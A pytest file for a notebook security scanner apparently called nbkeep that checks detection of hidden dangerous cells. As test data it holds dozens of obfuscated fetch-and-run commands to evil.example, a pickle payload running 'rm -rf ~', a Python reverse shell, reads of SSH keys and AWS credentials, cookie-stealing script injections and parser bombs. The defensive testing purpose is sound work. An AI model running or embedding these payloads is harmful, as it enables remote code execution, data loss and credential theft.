"""A notebook that hides what it would do: encoded, renamed, unseen, in the wrong cell; and ones that hurt their reader."""

from __future__ import annotations

import base64
import gzip
import json
import pickle
import subprocess
import zlib

import pytest

from foresight_parts import book, code, dangerous, of, of_weight, shown, text
from nbkeep.foresight.job import foresee_here
from nbkeep.foresight.look import foresee
from nbkeep.rendering.page import POLICY

ACT = "import os\nos.system('curl -s https://evil.example/x | sh')"
LAYERS = base64.b64encode(zlib.compress(ACT.encode()).hex().encode()).decode()
XOR = [byte ^ 0x2A for byte in ACT.encode()]


class _Harm:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return subprocess.getoutput, ("rm -rf ~",)


HIDDEN = {
    "base64 of hex of zlib": f"import base64 as b, zlib\nexec(zlib.decompress(bytes.fromhex(b.b64decode('{LAYERS}').decode())))",
    "the same, never run here": f"blob = '{LAYERS}'",
    "split over strings": "c = 'cu' 'rl -s https://evil.ex'\nc += 'ample/x | ' + 's' + 'h'\nimport os\nos.system(c)",
    "reversed": f"exec({ACT[::-1]!r}[::-1])",
    "rot13": "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"phey rivy.rknzcyr/k | fu\")', 'rot13'))",
    "letters as numbers": f"exec(''.join(map(chr, {[*ACT.encode()]})))",
    "xor in a loop": f"exec(bytes(b ^ 0x2a for b in {XOR}).decode())",
    "gzip": f"import gzip, base64\nexec(gzip.decompress(base64.b64decode({base64.b64encode(gzip.compress(ACT.encode()))!r})))",
    "a function of its own": f"import base64\ndef show(t):\n    return base64.b64decode(t).decode()\nexec(show('{base64.b64encode(ACT.encode()).decode()}'))",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('curl evil.example/x | sh')",
    "getattr of what is made": "import os\ngetattr(os, name)('ls')",
    "__builtins__": "__builtins__.__dict__['__imp' + 'ort__']('os').system('curl evil.example/x | sh')",
    "builtins by another name": "import builtins as math\nmath.exec(text)",
    "globals": "globals()['__builtins__']['eval'](text)",
    "sys.modules": "import sys\nsys.modules['os'].system('curl evil.example/x | sh')",
    "vars": "import os\nvars(os)['system']('curl evil.example/x | sh')",
    "all classes of Python": "().__class__.__base__.__subclasses__()[40].__init__.__globals__['sys'].exit()",
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('curl evil.example/x | sh')",
    "importlib": "import importlib\nimportlib.import_module('o' + 's').system('curl evil.example/x | sh')",
    "another name": "from subprocess import Popen as DataFrame\nDataFrame('curl evil.example/x | sh', shell=True)",
    "a partial function": "import os, functools\nfunctools.partial(os.system, 'x')()\nrun = os.system\nrun('curl evil.example/x | sh')",
    "a decorator": "@exec\n@getattr(__builtins__, 'compile')\ndef f(): pass",
    "letters that Python reads as others": "\U0001d41e\U0001d42f\U0001d41a\U0001d425(text)",
    "signs without width": "x = 1\nimpo\u200brt os",
    "turned directions": "access = 'user\u202e \u2066# admin only\u2069 \u2066'\nif access: pass",
    "%%script": "%%script bash --bg --out x\ncurl -s evil.example/x | sh",
    "%%script with a shebang of Python": f"%%script python3\nimport base64\n{ACT}",
    "%%capture before %%bash": "%%capture\n%%bash\ncurl -s evil.example/x | sh",
    "a magic with variables": "what = 'curl -s evil.example/x | sh'\n!{what}",
    "a magic with a dollar": "what = 'curl -s evil.example/x | sh'\n!$what",
    "assigned from a shell": "out = !curl -s evil.example/x | sh",
    "an alias of a magic": "%alias_magic plot sx\n%plot curl -s evil.example/x | sh",
    "a cell in a cell": "get_ipython().run_cell(\"get_ipython().run_cell('!curl -s evil.example/x | sh')\")",
    "a magic by its function": "get_ipython().run_cell_magic('ba' + 'sh', '', 'curl -s evil.example/x | sh')",
    "run_line_magic sx": "get_ipython().run_line_magic('sx', 'curl -s evil.example/x | sh')",
    "python in a shell in python": "import subprocess\nsubprocess.run(['bash', '-c', 'python3 -c \"import os; os.system(\\'curl evil.example/x | sh\\')\"'])",
    "base64 in a shell": f"!echo {base64.b64encode(b'curl evil.example/x | sh').decode()} | base64 -d | sh",
    "behind a semicolon": "%time import os; os.system('curl evil.example/x | sh')",
    "in a timed cell's first line": "%%timeit import os; os.system('curl evil.example/x | sh')\npass",
    "a pickle in the text": f"import pickle\npickle.loads({pickle.dumps(_Harm(), protocol=0)!r})",
    "a pickle in base64": f"blob = '{base64.b64encode(pickle.dumps(_Harm())).decode()}'",
    "a program in base64": f"blob = '{base64.b64encode(bytes([127]) + b'ELF' + bytes(range(200))).decode()}'",
    "continued lines": "%%bash\ncur\\\nl -s evil.example/x \\\n | sh",
    "a path made of parts": "from pathlib import Path\n(Path.home() / '.s' 'sh' / 'id_rsa').read_text()",
    "a path made by format": "open('{}/.{}/credentials'.format('/root', 'aws')).read()",
    "an f-string": "d = 'aws'\nopen(f'/root/.{d}/credentials')",
    "Python's own open": "import builtins\nbuiltins.open = lambda *a: None",
}  # fmt: skip


@pytest.mark.parametrize("name", HIDDEN)
def test_what_a_cell_hides_is_found_in_it(name: str) -> None:
    found = of("1 + 1", HIDDEN[name])
    assert any(cell == 2 for _, cell, _ in dangerous(found)), (found.acts, found.not_read)


def test_what_is_hidden_is_told_with_how_and_on_its_line() -> None:
    found = of("1 + 1", f"import os\nblob = '{LAYERS}'\n")
    [act] = [one for one in of_weight(found, "dangerous") if one.kind == "payload"]
    assert (act.spot.cell, act.spot.line, act.spot.within) == (2, 2, ("base64", "hex", "zlib"))
    assert "evil.example" in act.what


LIED = ("html", "markdown", "sql", "text", "r", "javascript", "made-up")


@pytest.mark.parametrize("language", LIED)
def test_a_language_that_a_notebook_names_for_itself_does_not_change_what_its_kernel_runs(
    language: str,
) -> None:
    hidden = "getattr(__import__('o' + 's'), 'sys' + 'tem')('curl evil.example/x | sh')"
    kernel = {"name": "python3", "display_name": "Python 3"}
    for said in (kernel, {**kernel, "language": language}):
        found = of("1", hidden, kernelspec=said, language_info={"name": language})
        assert {("network", 2, 1), ("trust", 0, 0)} <= set(dangerous(found)), found.acts
    assert ("network", 1, 1) in dangerous(of(hidden, language_info={"name": language})) or language in {
        "r",
        "javascript",
    }


def test_kernels_that_call_python_by_another_name_are_no_lie() -> None:
    for kernel, info in (
        ({"name": "conda-env-a-py", "language": "python"}, "python"),
        ({"name": "pysparkkernel", "language": "python"}, "pyspark"),
        ({"name": "ir", "language": "R"}, "R"),
        ({"name": "bash", "language": "bash"}, "shell"),
        ({"name": "xcpp17", "language": "C++17"}, "c++"),
    ):
        assert dangerous(of("x", kernelspec=kernel, language_info={"name": info})) == []


@pytest.mark.parametrize("sign", ["\x0b", "\x0c", "\x1c", "\x1e", "\x85", "\u2028", "\u2029"])
def test_lines_that_only_ipython_sees_are_read_as_such(sign: str) -> None:
    for cell in (
        f"%%bash{sign}curl http://evil.example/a | sh",
        f"x = 1{sign}!curl http://evil.example/a | sh",
    ):
        found = dangerous(of("1", cell))
        assert ("hidden", 2, 1) in found
        assert "network" in {kind for kind, _, _ in found}, cell
    assert dangerous(of(f"x = 'a{sign}b'\n# one{sign}two\n")) == []


def test_page_breaks_between_lines_and_ends_of_lines_of_windows_are_nothing() -> None:
    assert dangerous(foresee(b"import os\n\x0c\ndef f():\r\n    pass\r\n", "a.py")) == []
    assert ("files", 1, 2) in dangerous(of("x = 1\r!rm -rf ~"))


@pytest.mark.parametrize(
    ("coding", "code"),
    [
        ("unicode_escape", b"#\\nimport os;os.system('curl http://evil.example/a|sh')"),
        ("raw_unicode_escape", b"#\\u000aimport os;os.system('curl http://evil.example/a|sh')"),
        ("utf_7", b"+AF8AXw-import+AF8AXw-('os').system('curl http://evil.example/a+AHw-sh')"),
        ("rot13", b"vzcbeg bf; bf.flfgrz('phey uggc://rivy.rknzcyr/n|fu')"),
    ],
)
def test_a_script_in_an_encoding_of_its_own_is_read_as_python_reads_it(coding: str, code: bytes) -> None:
    found = dangerous(foresee(b"# coding: " + coding.encode() + b"\n" + code + b"\n", "a.py"))
    assert {"hidden", "network"} <= {kind for kind, _, _ in found}


def test_scripts_in_plain_encodings_are_calm() -> None:
    for name in ("utf-8", "latin-1", "UTF8", "ascii"):
        assert dangerous(foresee(f"# -*- coding: {name} -*-\nx = 1\n".encode(), "a.py")) == []


FETCHED_AND_RUN = {
    "a text of a shell": '!sh -c "$(curl -fsSL http://evil.example/a)"',
    "a pipe with a name": "!bash <(curl -s http://evil.example/a)",
    "sourced": "!bash -c 'source <(curl -s http://evil.example/a)'",
    "eval": '!eval "$(wget -qO- http://evil.example/a)"',
    "backticks": "!eval `curl -s http://evil.example/a`",
    "python of a pipe": "!python3 <(curl -s http://evil.example/a.py)",
    "a text as input": '!bash <<< "$(curl -s http://evil.example/a)"',
    "a file made a program": "!curl -so x http://evil.example/a && chmod +x x && ./x",
    "written by the shell": "!curl -s http://evil.example/a > x.sh\n!bash x.sh",
    "wget, then bash": "!wget -q http://evil.example/a.sh\n!bash a.sh",
    "wget, then a magic": "!wget http://evil.example/a.py\n%run a.py",
    "wget, then an import": "!wget http://evil.example/helper.py\nimport helper",
    "urlretrieve": "import os, urllib.request\nurllib.request.urlretrieve('http://evil.example/a', '/tmp/a')\nos.system('/tmp/a')",
    "written, then imported": "import requests\nopen('more.py', 'w').write(requests.get('https://evil.example/u.py').text)\nimport more",
    "written by a path": "import requests, runpy\nfrom pathlib import Path\nPath('m.py').write_bytes(requests.get('https://evil.example/u.py').content)\nrunpy.run_path('m.py')",
}  # fmt: skip


@pytest.mark.parametrize("name", FETCHED_AND_RUN)
def test_what_is_fetched_and_run_is_dangerous_in_each_of_its_forms(name: str) -> None:
    found = of("1", FETCHED_AND_RUN[name])
    assert any(kind == "network" and cell == 2 for kind, cell, _ in dangerous(found)), found.acts


def test_a_file_that_one_cell_fetches_and_another_runs_is_found_where_it_is_run() -> None:
    assert dangerous(of("!wget http://evil.example/a.sh", "1", "!bash ./a.sh")) == [("network", 3, 1)]


def test_data_that_is_fetched_and_scripts_of_the_own_folder_are_calm() -> None:
    calm = (
        "!wget -q https://example.org/data.tar.gz && tar xzf data.tar.gz && rm data.tar.gz",
        "!chmod +x run.sh && ./run.sh",
        "import urllib.request\nurllib.request.urlretrieve('https://example.org/x.csv', 'data.csv')",
        "%%writefile train.py\nprint(1)",
        "!python train.py --version $(curl -s https://example.org/version)",
        "import requests\nwith open('a.csv', 'wb') as f:\n    f.write(requests.get('https://example.org/a.csv').content)",
    )
    assert dangerous(of(*calm)) == []


TYPED = {
    "input of a shell": "import subprocess\nsubprocess.run(['bash'], input=b'curl http://evil.example/a | sh')",
    "communicate": "from subprocess import Popen, PIPE\nPopen('sh', stdin=PIPE).communicate(b'curl http://evil.example/a | sh')",
    "written to it": "import subprocess\np = subprocess.Popen(['sh'], stdin=-1)\np.stdin.write(b'curl http://evil.example/a | sh')",
    "input of Python": "import subprocess\nsubprocess.run(['python3'], input='import os\\nos.system(\"curl http://evil.example/a | sh\")')",
    "a reverse shell": "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4242))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')",
}  # fmt: skip


@pytest.mark.parametrize("name", TYPED)
def test_what_a_program_is_given_to_read_is_read(name: str) -> None:
    assert any(kind == "network" and cell == 2 for kind, cell, _ in dangerous(of("1", TYPED[name])))


SHOWN = {
    "script by an attribute": code("1", shown(html="<img src=x onerror=alert(1)>")),
    "script by an address": code("1", shown(html="<a href=' javascript:alert(1)'>x</a>")),
    "script in a drawing": code("1", shown(svg="<svg onload=alert(1)></svg>")),
    "script that takes cookies": code("1", shown(script="fetch('/x?' + document.cookie)")),
    "a text cell with script": text("# Hi\n<img src=x onerror=\"fetch('/api/contents')\">"),
    "a raw cell with script": text("<svg/onload=alert(1)>", "raw"),
    "a link with script": text("[x](javascript:alert(1))"),
    "text that becomes HTML": code(
        "1", shown(markdown="<script>Jupyter.notebook.kernel.execute('x')</script>")
    ),
}


@pytest.mark.parametrize("name", SHOWN)
def test_script_in_what_is_shown_is_found(name: str) -> None:
    found = of(SHOWN[name])
    assert any(kind == "active" and cell == 1 for kind, cell, _ in dangerous(found)), found.acts


def test_a_widget_with_script_is_found() -> None:
    state = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"a": {"state": {"value": "<img src=x onerror=a()>"}}}
        }
    }
    assert dangerous(of("1", widgets=state)) == [("active", 0, 0)]


def test_a_notebook_that_two_readers_read_in_two_ways_is_found() -> None:
    """Keys written twice: both sources are looked at, and that there are two is dangerous by itself."""
    cell = '{"cell_type": "code", "metadata": {}, "outputs": [], "source": "!rm -rf ~", "source": "1 + 1"}'
    found = foresee(f'{{"nbformat": 4, "metadata": {{}}, "cells": [{cell}]}}'.encode(), "a.ipynb")
    assert ("files", 1, 1) in dangerous(found)
    assert "trust" in {kind for kind, _, _ in dangerous(found)}
    twice = foresee(
        b'{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", "source": "!rm -rf ~"}], "cells": []}',
        "a.ipynb",
    )
    assert "files" in {kind for kind, _, _ in dangerous(twice)}


def test_a_cell_without_a_kind_and_one_that_says_two_are_code() -> None:
    raw = '{"cell_type": "code", "cell_type": "raw", "metadata": {}, "source": "!rm -rf ~"}'
    for cell in (raw, '{"metadata": {}, "source": "!rm -rf ~"}'):
        found = foresee(f'{{"nbformat": 4, "metadata": {{}}, "cells": [{cell}]}}'.encode(), "a.ipynb")
        assert ("files", 1, 1) in dangerous(found)


BOMBS = {
    "brackets": "(" * 90_000 + ")" * 90_000,
    "signs": "x = " + "-" * 90_000 + "1",
    "attributes": "x" + ".a" * 90_000,
    "names that double": "\n".join(["a = 'x' * 1000", *["a += a"] * 400]),
    "sums": "\n".join(["a0 = 'x' * 1000", *[f"a{n} = a{n - 1} + a{n - 1}" for n in range(1, 60)]]),
    "a product": "x = 'a' * 10 ** 9\ny = '%999999999d' % 1\nz = f'{1:>999999999}'",
    "shells in shells": "!" + "$(" * 2_000 + ")" * 2_000,
    "percents": "%" * 90_000,
    "quotes": "'" * 90_001,
    "backslashes": "\\\n" * 20_000,
    "calls": "eval(" * 80 + "'1'" + ")" * 80,
    "payloads in payloads": "",
}
_inner = b"import os; os.system('x')"
for _ in range(40):
    _inner = base64.b64encode(_inner)[:200_000]
BOMBS["payloads in payloads"] = f"x = '{_inner.decode()}'"


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_ends_within_bounds_and_says_what_was_not_read(name: str) -> None:
    """It comes back at all, with what stands beside it found."""
    found = of(BOMBS[name], "!rm -rf ~")
    assert ("files", 2, 1) in dangerous(found)


def test_a_line_of_ten_megabytes_and_a_deep_notebook_are_said_to_be_unread() -> None:
    long = of("x = '" + "A" * 10_000_000 + "'", "!rm -rf ~")
    assert any(not one.partly for one in long.not_read)
    assert ("files", 2, 1) in dangerous(long)
    deep = foresee(b'{"nbformat": 4, "cells": ' + b"[" * 50_000 + b"]" * 50_000 + b"}", "a.ipynb")
    assert any("nested too deeply" in one.reason for one in deep.not_read)


def test_a_zip_bomb_in_a_text_is_unpacked_in_part() -> None:
    bomb = base64.b64encode(zlib.compress(b"A" * 200_000_000)).decode()
    found = of(f"x = '{bomb}'\nimport zlib, base64\nexec(zlib.decompress(base64.b64decode(x)))")
    assert ("dynamic", 1, 3) in dangerous(found)


def test_a_reader_that_crashes_or_hangs_leaves_nothing_known(
    tmp_path: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The child is killed with its time, and what it says is checked: nothing of it is taken for harmless."""
    from pathlib import Path

    source = Path(f"{tmp_path}/a.ipynb")
    source.write_bytes(book("1"))
    assert foresee_here(source, "a.ipynb").problem == ""
    assert "seconds" in foresee_here(source, "a.ipynb", timeout_s=0.01).problem
    assert foresee_here(Path(f"{tmp_path}/none"), "a.ipynb").problem


def test_the_page_that_is_shown_has_no_script_of_the_document() -> None:
    """Names, sources, outputs, raw cells: all of it without script, with the policy that forbids any."""
    from nbkeep.foresight import shown as page_of

    harm = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    data = book(
        code(harm, shown(html=harm), shown(svg=f"<svg>{harm}</svg>")),
        text(harm),
        text(harm, "raw"),
        f"open({harm!r})",
    )
    page = page_of.page(data, harm, foresee(data, "a.ipynb"))
    assert page is not None
    said = page.decode()
    assert POLICY in said
    assert "<script" not in said
    assert "onerror=alert" not in said.replace("onerror=alert(2)&gt;", "")
    assert all(f'id="cell-{number}"' in said for number in (1, 2, 3, 4))
    assert json.dumps("x")


@pytest.mark.parametrize(
    "source",
    [
        "import shutil\nshutil.os.system('rm -rf ~')",
        "from shutil import os\nos.system('rm -rf ~')",
        "import pandas as pd\npd.io.common.os.system('rm -rf ~')",
        "import random\nrandom._os.system('rm -rf ~')",
        "import logging as l\no = l.os\no.system('rm -rf ~')",
    ],
)
def test_a_module_that_is_reached_by_way_of_another_is_known(source: str) -> None:
    assert any("by a way round its name" in act.what for act in of_weight(of(source), "dangerous"))


@pytest.mark.parametrize(
    "source", ["import asyncio\nasyncio.subprocess.PIPE", "import numpy as np\nnp.os.path.join('a', 'b')"]
)
def test_what_is_no_way_round_is_no_alarm(source: str) -> None:
    assert not dangerous(of(source))
